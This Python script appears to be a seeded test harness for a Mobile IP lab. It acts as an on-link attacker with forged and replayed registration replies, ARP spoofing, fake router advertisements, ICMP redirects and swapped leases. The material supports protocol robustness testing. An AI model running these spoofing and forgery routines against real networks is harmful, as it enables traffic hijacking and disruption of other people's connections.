#!/usr/bin/python3 -B
"""An attacker who owns the link of a mobile node and wants to be taken for the inside: what a router sees and sends, with no
key of the home agents. Each attack is a few kinds at once, most of them with another lease for the mobile node; while it
lasts, every request that asks the inner home agent in the clear is answered by forgeries. Kinds, order, contents and
pauses are drawn from the seed. Prints a JSON line for each attack, and at the end what it has sent.

With --key it forges one reply that is right, until it is told to end: what the forgeries are one key short of."""

import argparse
import hashlib
import hmac
import random
import struct
import subprocess
import sys
import threading
import time
from collections import Counter

from scapy.all import AsyncSniffer, conf, rdpcap
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Raw
from scapy.utils import checksum

import messages as mip
from messages import MobileIP, MobileIPRRP

EVERYBODY = "ff:ff:ff:ff:ff:ff"
ALL_SYSTEMS = ("224.0.0.1", "01:00:5e:00:00:01")
# The address and the gateway of the mobile node: as at home behind a NAT, as in networks inside, and as addresses that are its own.
HONEST = ("192.168.77.10/24", "192.168.77.1")
LEASES = [
    ("10.11.0.50/24", "10.11.0.1"),
    ("10.12.0.50/24", "10.12.0.1"),
    ("10.20.0.50/24", "10.20.0.1"),
    ("10.10.0.77/24", "10.10.0.1"),
    ("10.10.0.101/24", "10.10.0.1"),
    ("10.11.0.51/16", "10.11.0.1"),
    ("192.168.77.11/24", "192.168.77.1"),
    HONEST,
]
OWN = [("10.20.0.5/24", "10.20.0.1"), ("10.30.0.5/24", "10.30.0.1"), ("198.51.100.5/24", "198.51.100.1")]


def authentication(kind, spi, octets, key):
    """HMAC-SHA-256 over everything up to and including the SPI (RFC 5944 §3.5.1)."""
    octets += struct.pack("!BBI", kind, 36, spi)
    return octets + hmac.new(key, octets, hashlib.sha256).digest()


def accepted(request, extensions=(mip.TrustedNetwork(),), code=0, identification=None):
    """What the inner home agent would say, without its signature."""
    fixed = request.fixed
    message = MobileIP(type=mip.REPLY) / MobileIPRRP(
        code=code, lifetime=fixed.lifetime, homeaddr=fixed.homeaddr, haaddr=fixed.haaddr,
        id=fixed.id if identification is None else identification,
    )
    return bytes(message) + b"".join(bytes(extension) for extension in extensions)


def flipped(rng, octets):
    octets = bytearray(octets)
    for _ in range(rng.randint(1, 4)):
        octets[rng.randrange(len(octets))] ^= 1 << rng.randrange(8)
    return bytes(octets)


def with_identification(octets, identification):
    """A reply for another request; its signature is not right any more."""
    return octets[:12] + struct.pack("!Q", identification) + octets[20:]


class Forger:
    """Replies, each one thing short of the right one. `inside` are genuine ones of the inner home agent, recorded inside;
    `outside` are those of the outer one, as they pass."""

    def __init__(self, inside):
        self.inside = inside
        self.outside = []

    def wrong_key(self, rng, request):
        return authentication(mip.MOBILE_HOME, rng.choice([0x100, 0x101]), accepted(request), rng.randbytes(24))

    def key_of_nobody(self, rng, request):
        return authentication(mip.MOBILE_HOME, 0x100, accepted(request), b"")

    def short_hash(self, rng, request):
        return mip.signed(Raw(accepted(request)), [], 0x100, rng.randbytes(16))

    def unsigned(self, rng, request):
        return accepted(request)

    def signed_by_nobody(self, rng, request):
        octets = accepted(request)
        return octets + bytes([mip.MOBILE_HOME, 4]) + struct.pack("!I", 0x100)

    def signed_twice(self, rng, request):
        return authentication(mip.MOBILE_HOME, 0x100, self.wrong_key(rng, request), b"")

    def as_foreign_agent(self, rng, request):
        return authentication(33, 0x100, accepted(request), rng.randbytes(24))

    def denied(self, rng, request):
        code = rng.choice([64, 66, 67, 69, 78, 80, 104, 128, 129, 130, 131, 133, 134, 136, 137, 255])
        octets = accepted(request, (), code, mip.timestamp() + rng.randint(-1 << 44, 1 << 44) & (1 << 64) - 1)
        return rng.choice([octets, authentication(mip.MOBILE_HOME, 0x100, octets, rng.randbytes(24))])

    def denied_as_asked(self, rng, request):
        return accepted(request, (), rng.choice([64, 67, 78, 88, 131, 133, 136]))

    def wrong_identification(self, rng, request):
        octets = accepted(request, identification=rng.getrandbits(64))
        return authentication(mip.MOBILE_HOME, 0x100, octets, rng.randbytes(24))

    def replayed(self, rng, request):
        return rng.choice(self.inside)

    def replayed_for_this(self, rng, request):
        return with_identification(rng.choice(self.inside), request.fixed.id)

    def replayed_and_extended(self, rng, request):
        return rng.choice(self.inside) + bytes(mip.TrustedNetwork())

    def truncated(self, rng, request):
        octets = rng.choice([self.replayed_for_this(rng, request), self.wrong_key(rng, request)])
        return octets[: rng.randrange(len(octets))]

    def bit_flipped(self, rng, request):
        return flipped(rng, rng.choice([self.replayed(rng, request), self.replayed_for_this(rng, request)]))

    def reflected(self, rng, request):
        """The request's own signature under a reply."""
        return accepted(request) + request.octets[-38:]

    def echoed(self, rng, request):
        return bytes([mip.REPLY]) + request.octets[1:]

    def of_the_outer_one(self, rng, request):
        if not self.outside:
            return self.unsigned(rng, request)
        octets = rng.choice(self.outside)
        home = bytes(map(int, request.fixed.homeaddr.split(".")))
        return rng.choice([octets, octets[:4] + home + octets[8:12] + struct.pack("!Q", request.fixed.id) + octets[20:]])

    def revocation(self, rng, request):
        return bytes([7]) + rng.randbytes(rng.randint(0, 60))

    def noise(self, rng, request):
        return bytes([rng.choice([0, 1, 3, 4, 15, 255])]) + rng.randbytes(rng.randint(0, 80))

    kinds = [
        "wrong_key", "key_of_nobody", "short_hash", "unsigned", "signed_by_nobody", "signed_twice", "as_foreign_agent", "denied",
        "denied_as_asked", "wrong_identification", "replayed", "replayed_for_this", "replayed_and_extended", "truncated",
        "bit_flipped", "reflected", "echoed", "of_the_outer_one", "revocation", "noise",
    ]


class Attacker:
    def __init__(self, settings):
        self.settings = settings
        self.mac = settings.mac
        self.socket = conf.L2socket(iface=settings.interface)
        self.lock = threading.Lock()
        recorded = [bytes(packet[UDP].payload) for packet in rdpcap(settings.recorded) if UDP in packet]
        self.forger = Forger([octets for octets in recorded if octets[:1] == bytes([mip.REPLY])])
        if not self.forger.inside:
            sys.exit(f"{settings.recorded} has no reply of the inner home agent")
        self.address = HONEST[0].split("/")[0]
        self.sent, self.requests = Counter(), 0
        self.chance, self.forges = random.Random(settings.seed), []
        self.known = None  # the last request in the clear
        self.sniffer = AsyncSniffer(
            iface=[settings.interface, settings.upstream], prn=self.heard, store=False,
            filter="udp port 434 and (udp[8] = 1 or udp[8] = 3)",
        )

    # --- what it sends ---------------------------------------------------------------------------

    def send(self, kind, packet, to=None):
        with self.lock:
            self.sent[kind] += 1
        try:
            self.socket.send(Ether(src=self.mac, dst=to or self.settings.client_mac) / packet)
        except OSError:
            pass  # the interface was being given another MAC

    def answer(self, rng, kind, request, source, port, to):
        octets = getattr(self.forger, kind)(rng, request)
        self.send(kind, IP(src=source, dst=to) / UDP(sport=434, dport=port) / Raw(octets))

    def heard(self, packet):
        octets = bytes(packet[UDP].payload)
        settings = self.settings
        # What it sends itself is heard as well.
        is_genuine = packet.sniffed_on == settings.upstream or packet[Ether].src == settings.client_mac
        if is_genuine and packet[IP].dst in settings.inner and octets[:1] == bytes([mip.REQUEST]):
            try:
                request = mip.Message(octets, b"")
            except mip.Malformed:
                return
            self.requests += 1
            self.known = (request, packet[IP].src, packet[UDP].sport)
            if settings.key:
                right = authentication(mip.MOBILE_HOME, 0x100, accepted(request), settings.key.encode())
                self.send("right", IP(src=packet[IP].dst, dst=packet[IP].src) / UDP(sport=434, dport=packet[UDP].sport) / Raw(right))
                return
            for kind in self.forges:
                time.sleep(self.chance.choice([0, 0, 0.005, 0.03]))
                self.answer(self.chance, kind, request, packet[IP].dst, packet[UDP].sport, packet[IP].src)
        elif is_genuine and packet[IP].src == settings.outer and octets[:1] == bytes([mip.REPLY]):
            self.forger.outside = [*self.forger.outside[-7:], octets]

    # --- kinds of attack -------------------------------------------------------------------------

    def lease(self, rng):
        """As a DHCP server would, another address and gateway; the gateway has its MAC of the inside, or another one."""
        address, gateway = rng.choice(OWN) if rng.random() < 0.15 else rng.choice(LEASES)
        self.give(address, gateway)
        return address

    def give(self, address, gateway):
        card, namespace = self.settings.card, self.settings.namespace
        self.address = address.split("/")[0]
        commands = f"""address flush dev {card}
neighbour flush dev {card}
address add {address} dev {card}
route replace default via {gateway} dev {card} proto dhcp metric 100
"""
        subprocess.run(["ip", "-n", namespace, "-batch", "-"], input=commands, text=True, check=True)

    def mac_of_the_gateway(self, rng):
        self.mac = rng.choice([self.settings.mac, self.settings.mac, "02:00:00:00:00:" + f"{rng.randrange(256):02x}"])
        interface = self.settings.interface
        subprocess.run(["ip", "link", "set", interface, "address", self.mac], check=True)
        self.arp(rng)
        return self.mac

    def advertisement(self, rng):
        """ICMP router discovery with the extension of a mobility agent (RFC 1256 §3, RFC 5944 §2.1.1)."""
        source = rng.choice(["10.11.0.1", "10.10.0.2", "10.20.0.1", "10.20.0.2", "10.12.0.1"])
        agent = bytes(map(int, source.split(".")))
        flags = rng.choice([0x2000, 0x2000, 0xB000, 0x9000, 0xB600])
        care_of = rng.choice([b"", agent, agent + rng.randbytes(4)])
        for sequence in range(rng.randint(1, 3)):
            octets = struct.pack("!BBH4sI", 1, 2, rng.choice([3, 1800]), agent, 0)
            octets += struct.pack("!BBHHH", 16, 6 + len(care_of), sequence, 300, flags) + care_of
            octets = b"\x09\0" + struct.pack("!H", checksum(b"\x09\0\0\0" + octets)) + octets
            self.send("advertisement", IP(src=source, dst=ALL_SYSTEMS[0], ttl=1, proto=1) / Raw(octets), ALL_SYSTEMS[1])
        return source

    def arp(self, rng):
        """That everybody is here: the home agent, the gateways, the host that is talked to, and the mobile node itself."""
        settings = self.settings
        gateways = [gateway for _, gateway in LEASES]
        everybody = [*settings.inner, settings.outer, settings.correspondent, settings.home, *gateways]
        for address in rng.sample(everybody, rng.randint(2, len(everybody))):
            announced = ARP(op=rng.choice([1, 2]), hwsrc=self.mac, psrc=address, hwdst=EVERYBODY, pdst=address)
            self.send("arp", announced, EVERYBODY)
            answered = ARP(op=2, hwsrc=self.mac, psrc=address, hwdst=settings.client_mac, pdst=self.address)
            self.send("arp", answered)
        asked = ARP(op=1, hwsrc=self.mac, psrc=rng.choice(settings.inner), pdst=settings.home)
        self.send("arp", asked, EVERYBODY)

    def unasked(self, rng):
        """Replies to nothing, or to what was asked before, from all sorts of places and to all sorts of addresses."""
        if not self.known:
            return
        request, source, port = self.known
        settings = self.settings
        for kind in rng.sample(Forger.kinds, rng.randint(2, 6)):
            speaker = rng.choice([*settings.inner, settings.outer, "10.10.0.1", "10.20.0.1"])
            to = rng.choice([self.address, source, settings.home, settings.mobility, settings.vpn_address])
            self.answer(rng, kind, request, speaker, rng.choice([port, 434, 4711]), to)

    def outer_replies(self, rng):
        """In the name of the outer home agent: that T is refused, gone or elsewhere."""
        settings = self.settings
        for _ in range(rng.randint(1, 4)):
            if self.forger.outside:
                octets = rng.choice(self.forger.outside)
                octets = rng.choice([octets, flipped(rng, octets), octets[:1] + bytes([rng.choice([131, 133, 64])]) + octets[2:]])
                self.send("outer-reply", IP(src=settings.outer, dst=self.address) / UDP(sport=434, dport=434) / Raw(octets))

    def talk_to_home(self, rng):
        """Packets for S, in the clear and in tunnels of the home agents, that ask for an answer."""
        settings = self.settings
        talker = rng.choice([settings.correspondent, *settings.inner, "10.10.0.7", self.address, "203.0.113.99"])
        inner = IP(src=talker, dst=settings.home) / rng.choice([
            ICMP() / Raw(rng.randbytes(32)), UDP(sport=53, dport=5999) / Raw(rng.randbytes(16)),
            TCP(sport=rng.randrange(1024, 65535), dport=rng.choice([22, 5005, 445]), flags="S", seq=rng.getrandbits(32)),
        ])
        outer = rng.choice([*settings.inner, settings.outer, "192.0.2.1"])
        to = rng.choice([self.address, self.address, settings.mobility, settings.vpn_address])
        data = Raw(bytes([mip.TUNNEL_DATA, 4, 0, 0]) + bytes(inner))
        for packet in (inner, IP(src=outer, dst=to) / inner, IP(src=outer, dst=to) / UDP(sport=434, dport=434) / data):
            self.send("to-home", packet)

    def redirect(self, rng):
        """That the way to the inside is another one (RFC 792)."""
        settings = self.settings
        gateway = rng.choice([gateway for _, gateway in LEASES])
        for source in (self.address, settings.home, settings.vpn_address):
            quoted = IP(src=source, dst=rng.choice([settings.correspondent, *settings.inner, settings.outer])) / UDP(sport=434, dport=434)
            code = rng.choice([0, 1])
            self.send("redirect", IP(src=gateway, dst=self.address) / ICMP(type=5, code=code, gw="10.11.0.1") / quoted)

    kinds = {
        "mac": "mac_of_the_gateway", "advertisement": "advertisement", "arp": "arp", "unasked": "unasked",
        "outer": "outer_replies", "to-home": "talk_to_home", "redirect": "redirect",
    }

    # --- the attacks -----------------------------------------------------------------------------

    def attack(self, number, rng):
        self.chance = random.Random(rng.getrandbits(64))
        self.forges = rng.sample(Forger.kinds, rng.randint(2, 6))
        kinds = rng.sample(sorted(self.kinds), rng.randint(1, 4))
        if rng.random() < 0.7:
            kinds.insert(rng.randint(0, len(kinds)), "lease")
        before, done = self.requests, {}
        for kind in kinds:
            done[kind] = getattr(self, self.kinds.get(kind, "lease"))(rng)
            time.sleep(rng.choice([0, 0.02, 0.1]))
        # A request that a guess has put off comes later.
        time.sleep(rng.choice([0.1, 0.2, 0.3, 0.6]))
        mip.tell("attack", number=number, kinds=done, forges=self.forges, asked=self.requests - before)

    def run(self):
        self.sniffer.start()
        time.sleep(0.5)
        mip.tell("ready", seed=self.settings.seed)
        if self.settings.key:
            rng = random.Random(1)
            while True:
                self.arp(rng)
                time.sleep(1)
        rng = random.Random(self.settings.seed)
        for number in range(1, self.settings.attacks + 1):
            self.attack(number, random.Random(rng.getrandbits(64)))
        self.forges = []
        self.give(*HONEST)
        self.sniffer.stop()
        mip.tell("ended", attacks=self.settings.attacks, requests=self.requests, sent=dict(sorted(self.sent.items())))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("interface", help="the link that it owns")
    parser.add_argument("--upstream", required=True, help="where genuine replies of the outer home agent come from")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--attacks", type=int, default=100)
    parser.add_argument("--mac", required=True, help="of the gateway inside")
    parser.add_argument("--client-mac", required=True)
    parser.add_argument("--namespace", required=True, help="where the mobile node is; for leases")
    parser.add_argument("--card", default="eth0", help="and its adapter there")
    parser.add_argument("--home", required=True, help="S")
    parser.add_argument("--mobility", required=True, help="T")
    parser.add_argument("--vpn-address", required=True, help="V")
    parser.add_argument("--correspondent", required=True)
    parser.add_argument("--inner", required=True, type=lambda text: text.split(","), help="addresses of the inner home agent")
    parser.add_argument("--outer", required=True, help="the outer home agent")
    parser.add_argument("--recorded", required=True, help="a capture of genuine replies from inside")
    parser.add_argument("--key", help="that of the inner home agent: every request is answered rightly")
    Attacker(parser.parse_args()).run()


if __name__ == "__main__":
    main()
